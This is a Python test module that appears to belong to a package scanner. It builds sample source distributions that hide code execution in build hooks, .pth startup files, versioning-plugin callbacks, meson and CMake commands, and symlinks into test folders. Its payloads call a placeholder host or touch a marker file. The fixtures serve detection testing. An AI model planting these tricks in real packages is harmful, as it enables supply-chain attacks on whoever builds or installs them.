"""What builds run of the tree without a setup.py that says so: version tools, build files of compilers, entry points
that setuptools finds in the tree; and packages that are kept among tests and installed under another name. None of
these has a wheel."""
from .package import attack, sdists

FETCH = '''
    import urllib.request


    def go(*args, **kw):
        return urllib.request.urlopen("https://cdn.example.net/t").read()


    go()
'''
PLAIN = "from setuptools import setup\n\nsetup(name=\"{n}\", version=\"1.0\", packages=[\"{m}\"])\n"
BACKEND = '[build-system]\nrequires = ["{0}"]\nbuild-backend = "{1}"\n'


@attack
def egg_entry_point(p):
    """Entry points of setuptools in the tree's *.egg-info, which it loads while it builds. Must be held."""
    return p.sdist(setup=PLAIN, files={
        "{m}.egg-info/entry_points.txt": "[setuptools.finalize_distribution_options]\nx = tests.helper:go\n",
        "tests/helper.py": FETCH})


@attack
def package_dir_among_tests(p):
    """package_dir of setup.py has the package lie among tests. Must be held."""
    return p.sdist(setup='''
        from setuptools import setup

        setup(name="{n}", version="1.0", packages=["{m}", "{m}_more"], package_dir={"{m}_more": "tests/more"})
        ''', files={"tests/more/__init__.py": FETCH})


@attack
def poetry_package_of_tests(p):
    """Poetry takes a package from the folder of tests. Must be held."""
    return p.sdist(pyproject=BACKEND.format("poetry-core", "poetry.core.masonry.api")
                   + '[[tool.poetry.packages]]\ninclude = "more"\nfrom = "tests"\n',
                   files={"tests/more/__init__.py": FETCH})


@attack
def hatch_start_file(p):
    """hatchling installs a text of the tree as a .pth file. Must be held."""
    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
                   + '[tool.hatch.build.targets.wheel.force-include]\n"data/notes.txt" = "a.pth"\n',
                   files={"data/notes.txt": "import os; os.system('touch /tmp/customhouse-marker')\n"})


@attack
def start_file_by_data_files(p):
    """data_files puts a .pth file of the package where Python starts with it. Must be held."""
    return p.sdist(setup='''
        from setuptools import setup

        setup(name="{n}", version="1.0", packages=["{m}"],
              data_files=[("lib/python3.12/site-packages", ["{m}/x.pth"])])
        ''', files={"{m}/x.pth": "import urllib.request; urllib.request.urlopen('https://cdn.example.net/t')\n"})


@attack
def versioningit_method(p):
    """versioningit is told a function of the tree. Must be held."""
    return p.sdist(pyproject=BACKEND.format("versioningit", "setuptools.build_meta")
                   + '[tool.versioningit.vcs]\nmethod = {module = "helper", value = "go", module-dir = "tests"}\n',
                   files={"tests/helper.py": FETCH})


@attack
def git_versioning_callback(p):
    """setuptools-git-versioning is told a function of the tree. Must be held."""
    return p.sdist(pyproject=BACKEND.format("setuptools-git-versioning", "setuptools.build_meta")
                   + '[tool.setuptools-git-versioning]\nversion_callback = "tests.helper:go"\n',
                   files={"tests/helper.py": FETCH})


@attack
def jupyter_build_function(p):
    """hatch-jupyter-builder is told a function of the tree. Must be held."""
    return p.sdist(pyproject=BACKEND.format("hatch-jupyter-builder", "hatchling.build")
                   + '[tool.hatch.build.hooks.jupyter-builder]\nbuild-function = "tests.helper.go"\n',
                   files={"tests/helper.py": FETCH})


@attack
def meson_command(p):
    """meson.build runs a script of the tests while it is configured. Must be held."""
    return p.sdist(pyproject=BACKEND.format("meson-python", "mesonpy"), files={
        "meson.build": "project('x', version: '1.0')\nrun_command('tests/helper.py', check: true)\n",
        "tests/helper.py": FETCH})


@attack
def cmake_command(p):
    """CMakeLists.txt runs a script while it is configured. Must be held."""
    return p.sdist(pyproject=BACKEND.format("scikit-build-core", "scikit_build_core.build"), files={
        "CMakeLists.txt": "project(x)\nexecute_process(COMMAND sh tools/prepare.sh)\n",
        "tools/prepare.sh": "touch /tmp/customhouse-marker\n"})


@attack
def poetry_old_build(p):
    """The build script of old poetry. Must be held."""
    return p.sdist(pyproject=BACKEND.format("poetry-core", "poetry.core.masonry.api") + '[tool.poetry]\nbuild = "build.py"\n',
                   files={"build.py": FETCH})


@attack
def module_is_a_link(p):
    """A module of the package is a link to a file among tests. Must be held."""
    return p.tarball(sdists.pack(p.sdist_members(setup=PLAIN, files={"tests/test_x.py": FETCH}),
                                 links={f"{p.module}-1.0/{p.module}/more.py": "../tests/test_x.py"}))


@attack
def package_is_a_link(p):
    """A package is a link to the folder of tests. Must be held."""
    return p.tarball(sdists.pack(p.sdist_members(setup=PLAIN, files={"tests/x.py": FETCH}),
                                 links={f"{p.module}-1.0/{p.module}_more": "tests"}))


@attack
def tests_are_installed(p):
    """setup.py installs the folder of tests as a package of its own. Must be held."""
    return p.sdist(setup='from setuptools import setup\n\nsetup(name="{n}", version="1.0", packages=["{m}", "tests"])\n',
                   files={"tests/x.py": FETCH})


@attack
def packages_are_found_among_tests(p):
    """pyproject.toml has setuptools look for packages among tests, too. Must be held."""
    return p.sdist(pyproject=BACKEND.format("setuptools", "setuptools.build_meta")
                   + '[tool.setuptools.packages.find]\nwhere = [".", "tests"]\n', files={"tests/more/__init__.py": FETCH})


@attack
def module_called_like_a_test(p):
    """setup.py installs a module whose name is that of a test. Must be held."""
    return p.sdist(setup='from setuptools import setup\n\nsetup(name="{n}", version="1.0", packages=["{m}"], py_modules=["test_{m}"])\n',
                   files={"test_{m}.py": FETCH})
